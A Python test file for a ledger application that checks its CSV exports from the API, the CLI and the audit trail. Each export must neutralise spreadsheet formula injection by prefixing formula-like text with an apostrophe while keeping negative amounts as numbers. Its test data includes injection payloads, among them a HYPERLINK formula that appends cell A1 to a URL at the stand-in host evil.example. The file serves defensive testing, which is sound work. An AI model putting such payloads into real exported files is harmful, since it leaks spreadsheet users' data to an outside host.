"""Every CSV the ledger writes opens safely in a spreadsheet: text that a spreadsheet
would run as a formula starts with an apostrophe, numbers (negative amounts too) do not.
The cell itself, then the API's exports, the CLI's CSV output and the regulatory trail,
each given commands whose ids are formulas and a payment 12.50 above what is owed."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from colledger.main import main
from ledger.audit.trail import export_trail
from ledger.audit.trail_check import check_trail
from ledger.audit.trail_query import TrailQuery
from ledger.commands.accounts import OpenAccount
from ledger.commands.base import Actor
from ledger.commands.receivables import IssueInvoice
from ledger.csv_cells import cell, row
from ledger.service import LedgerService
from tests.builders import MANAGER, SteppingClock, make_service
from tests.unit.api_world import ApiWorld
from tests.unit.given import a_payment
from tests.unit.test_trail_export import refresh_manifest_entry

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "@SUM(A1:A9)", "-x",
            "\t=1+1", "\r=1+1"]
"""What a spreadsheet would evaluate, or strip and then evaluate."""
APOSTROPHED = ["'" + text for text in FORMULAS]
NAME = '=HYPERLINK("http://evil.example","Acme")'


@pytest.mark.parametrize("text", FORMULAS, ids=["equals", "plus", "at", "minus", "tab", "cr"])
def test_text_starting_like_a_formula_is_apostrophed(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize("number, written", [
    (Decimal("-12.50"), "-12.50"), (-3, "-3"), (Decimal("0.00"), "0.00"), (7, "7"),
])
def test_numbers_stay_numbers_even_when_negative(number: object, written: str) -> None:
    assert cell(number) == written


def test_other_text_and_values_are_written_as_they_are() -> None:
    record = {"name": "Acme Ltd", "note": "owes 1-2 invoices", "due": date(2026, 1, 31),
              "paid": False, "payload": {"reference": "=1+1"}, "empty": None}

    assert row([*record, "missing"], record) == [
        "Acme Ltd", "owes 1-2 invoices", "2026-01-31", "false", '{"reference":"=1+1"}', "",
        "",
    ]


def formulas_written(service: LedgerService, number: str) -> None:
    """An account named like a formula; one 100.00 invoice per formula, issued under that
    formula as its command id with a formula as its reference; 612.50 paid for all six."""
    service.execute(OpenAccount(account=number, name=NAME, currency="USD",
                                effective_on=date(2026, 1, 1)), MANAGER)
    for i, command_id in enumerate(FORMULAS):
        service.execute(IssueInvoice(
            account=number, invoice_id=f"INV-{i}", amount=Decimal("100.00"), currency="USD",
            issue_date=date(2026, 1, 2), reference="=1+1", command_id=command_id,
        ), MANAGER)
    a_payment(service, "PAY-1", "612.50", date(2026, 2, 1), account=number)


def command_ids(rows: list[dict[str, str]]) -> list[str]:
    return [r["command_id"] for r in rows if r["type"] == "InvoiceIssued"]


def parsed(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_api_csv_exports_apostrophe_formulas_and_keep_negative_balances() -> None:
    world = ApiWorld()
    formulas_written(world.service, "F-1")
    world.app.state.read_models.catch_up()

    def export(path: str, **params: str) -> list[dict[str, str]]:
        response = world.client.get(path, params={"format": "csv", **params},
                                    headers={"X-API-Key": world.keys["auditor"]})
        assert response.status_code == 200, response.text
        return parsed(response.text)

    history = export("/accounts/F-1/history")
    trail = export("/audit/events")
    statement = export("/accounts/F-1/statement", **{"from": "2026-01-01", "to": "2026-02-10"})

    assert command_ids(history) == command_ids(trail) == APOSTROPHED
    assert statement[-1]["credit"] == "612.50" and statement[-1]["balance"] == "-12.50"


def test_cli_csv_apostrophes_formulas_and_keeps_negative_balances(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    service, clock = make_service(url)
    clock.set_day(date(2026, 2, 10))
    formulas_written(service, "F-1")

    def printed(*args: str) -> list[dict[str, str]]:
        assert main(["--database-url", url, *args, "--format", "csv"]) == 0
        return parsed(capsys.readouterr().out)

    history = printed("account", "history", "F-1")
    accounts = printed("account", "list")
    statement = printed("statement", "F-1", "--from", "2026-01-01", "--to", "2026-02-10")

    assert command_ids(history) == APOSTROPHED
    assert [a["name"] for a in accounts] == ["'" + NAME]
    assert statement[-1]["credit"] == "612.50" and statement[-1]["balance"] == "-12.50"


def exported_trail(tmp_path: Path) -> Path:
    service, clock = make_service(clock=SteppingClock())
    clock.set_day(date(2026, 2, 10))
    formulas_written(service, "F-1")
    out = tmp_path / "trail"
    export_trail(service.app, TrailQuery(account="F-1"), out, Actor("compliance-1",
                                                                      "compliance"), clock)
    return out


def test_a_trail_apostrophes_formulas_in_its_csv_and_still_verifies(tmp_path: Path) -> None:
    out = exported_trail(tmp_path)

    rows = parsed((out / "events.csv").read_bytes().decode("utf-8"))
    result = check_trail(out)

    assert command_ids(rows) == APOSTROPHED
    assert json.loads(rows[0]["payload"])["name"] == NAME
    assert result.ok, result.summary()


def test_a_trail_written_before_apostrophes_still_verifies_and_a_changed_cell_does_not(
    tmp_path: Path,
) -> None:
    out = exported_trail(tmp_path)
    csv_file = out / "events.csv"
    written = csv_file.read_bytes().decode("utf-8")
    assert "'@SUM" in written

    def verifies_with(text: str) -> bool:
        csv_file.write_bytes(text.encode("utf-8"))
        refresh_manifest_entry(out, "events.csv")
        return check_trail(out).ok

    assert verifies_with(written.replace("'@SUM", "@SUM").replace("'+1", "+1"))
    assert not verifies_with(written.replace("'@SUM", "'@AVG"))
